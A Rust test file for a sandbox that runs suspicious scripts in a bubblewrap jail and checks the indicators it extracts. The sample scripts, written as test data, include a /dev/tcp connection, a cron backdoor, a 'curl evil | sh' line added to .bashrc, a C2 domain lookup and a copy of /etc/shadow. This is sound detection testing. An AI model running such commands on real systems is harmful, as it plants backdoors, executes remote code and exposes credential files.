//! Dynamic analysis in the bubblewrap jail (needs the Debian packages bubblewrap and
//! strace; running as root or with unprivileged user namespaces).

use std::time::Duration;

use riposte_sandbox::dynamic::{DynamicAnalyzer, JailConfig};
use riposte_sandbox::report::{FileIoc, Verdict};

/// A non-loopback address of this host (no packet is sent).
fn host_ip() -> Option<std::net::IpAddr> {
    let s = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;
    s.connect("203.0.113.1:9").ok()?;
    let ip = s.local_addr().ok()?.ip();
    (!ip.is_loopback() && !ip.is_unspecified()).then_some(ip)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn script_behaviour_becomes_exact_iocs_and_nothing_escapes() {
    let analyzer = DynamicAnalyzer::new(JailConfig {
        timeout: Duration::from_secs(8),
        ..JailConfig::default()
    });
    analyzer
        .probe()
        .await
        .expect("bubblewrap jail must work on the test host");

    // A real host listener the script tries to reach: the jail has no network, so it
    // must never see a connection.
    let listener = tokio::net::TcpListener::bind("0.0.0.0:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let ip = host_ip()
        .map(|i| i.to_string())
        .unwrap_or_else(|| "203.0.113.7".into());
    let unique = format!("riposte-dyn-{}-{}", std::process::id(), port);
    let host_target = format!("/tmp/{unique}.bin");
    let script = format!(
        "#!/bin/bash\n\
         printf 'dropped payload' > {host_target}\n\
         /usr/bin/uname -a > /dev/null\n\
         ( exec 3<>/dev/tcp/{ip}/{port} ) 2>/dev/null\n\
         exit 0\n"
    );
    let accepted = tokio::spawn(async move { listener.accept().await.is_ok() });
    let b = analyzer.run("dropper.sh", script.as_bytes()).await.unwrap();

    let expected_drop = FileIoc::from_bytes(Some(host_target.clone()), b"dropped payload");
    assert_eq!(b.files_written, vec![expected_drop], "{b:#?}");
    assert_eq!(b.processes.len(), 1, "{b:#?}");
    assert_eq!(b.processes[0].path, "/usr/bin/uname");
    assert_eq!(b.processes[0].command_line, "/usr/bin/uname -a");
    assert_eq!(b.destinations.len(), 1, "{b:#?}");
    assert_eq!(b.destinations[0].ip, ip);
    assert_eq!(b.destinations[0].port, Some(port));
    assert_eq!(b.destinations[0].protocol, "tcp");
    assert!(b.persistence.is_empty(), "{b:#?}");
    assert!(b.domains.is_empty(), "{b:#?}");

    // Nothing reached the host: no file at the path it wrote, no connection.
    assert!(
        !std::path::Path::new(&host_target).exists(),
        "jail wrote to the host"
    );
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert!(!accepted.is_finished(), "jail reached the host network");
    accepted.abort();

    let report = analyzer
        .analyse("dropper.sh", script.as_bytes())
        .await
        .unwrap()
        .finalize();
    assert_eq!(report.verdict, Verdict::Suspicious);
    assert!(report.openioc.contains("/usr/bin/uname"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn persistence_and_dns_are_caught() {
    let analyzer = DynamicAnalyzer::new(JailConfig::default());
    let script = "#!/bin/sh\n\
                  echo '* * * * * root /tmp/.x' >> /etc/cron.d/backdoor 2>/dev/null\n\
                  echo 'curl evil | sh' >> \"$HOME/.bashrc\"\n\
                  getent hosts c2.evil-domain.example >/dev/null\n\
                  cat /etc/shadow > /tmp/leak 2>/dev/null\n\
                  exit 0\n";
    let r = analyzer
        .analyse("persist.sh", script.as_bytes())
        .await
        .unwrap();
    assert_eq!(r.verdict, Verdict::Malicious);
    assert!(r
        .threat_name
        .as_deref()
        .unwrap()
        .starts_with("Linux.Persistence."));
    let cron = r
        .iocs
        .persistence
        .iter()
        .find(|p| p.location == "/etc/cron.d/backdoor")
        .unwrap();
    assert_eq!(cron.kind, "cron");
    assert!(!cron.succeeded, "the jail's /etc is read-only");
    let rc = r
        .iocs
        .persistence
        .iter()
        .find(|p| p.location == "/root/.bashrc")
        .unwrap();
    assert!(rc.succeeded, "HOME is a writable scratch dir");
    assert_eq!(r.iocs.domains, vec!["c2.evil-domain.example".to_string()]);
    assert!(!std::path::Path::new("/etc/cron.d/backdoor").exists());
    // Host secrets under /etc are masked in the jail.
    let leak = r
        .iocs
        .dropped_files
        .iter()
        .find(|f| f.path.as_deref() == Some("/tmp/leak"))
        .unwrap();
    assert_eq!(leak.size, 0, "the jail could read /etc/shadow");
}

#[tokio::test]
async fn missing_jail_is_reported_not_hidden() {
    let analyzer = DynamicAnalyzer::new(JailConfig {
        bwrap: "/nonexistent/bwrap".into(),
        ..JailConfig::default()
    });
    let e = analyzer.probe().await.unwrap_err();
    assert!(e.to_string().contains("bubblewrap"), "{e}");
}
